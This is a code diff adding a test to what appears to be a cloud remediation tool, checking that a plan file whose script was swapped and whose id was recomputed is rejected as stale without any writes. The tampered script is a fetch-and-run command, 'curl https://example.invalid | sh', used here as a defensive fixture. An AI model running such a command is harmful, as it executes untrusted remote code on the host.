@@ -1,5 +1,6 @@
 """Scripts in the guest: what is sent, what is believed of the answer, and when nothing is sent."""
 
+import hashlib
 import json
 import re
 import time
@@ -106,6 +107,22 @@ def test_every_script_can_be_sent_whole(path: Path) -> None:
     assert text.endswith("\n")
     assert "\r" not in text
     assert "\n".join(text.splitlines()) + "\n" == text
+
+
+def test_a_plan_file_that_holds_another_script_is_stale(tmp_path: Path) -> None:
+    with cloud(tmp_path, guest=guest(answer())) as azure:
+        env, file = environment(azure, tmp_path), tmp_path / "plan.json"
+        books = arguments_of(azure, tmp_path, *ALLOWED)
+        remediate("plan", *books, "--out", str(file), env=env).check(0)
+        plan = json.loads(file.read_text("utf-8"))
+        plan["steps"][0]["request"]["body"]["script"] = ["curl https://example.invalid | sh"]
+        # Whoever writes a plan can also compute its id.
+        plain = json.dumps(plan | {"plan_id": ""}, ensure_ascii=False, separators=(",", ":"))
+        plan["plan_id"] = f"plan-{hashlib.sha256(plain.encode()).hexdigest()[:24]}"
+        file.write_text(json.dumps(plan), encoding="utf-8")
+        ended = remediate("apply", str(file), "--yes", *books[2:4], env=env).check(4)
+        assert "stale" in ended.err
+        assert azure.writes() == []
 
 
 def test_a_dry_run_shows_the_script_and_its_plan_holds_it_whole(tmp_path: Path) -> None:
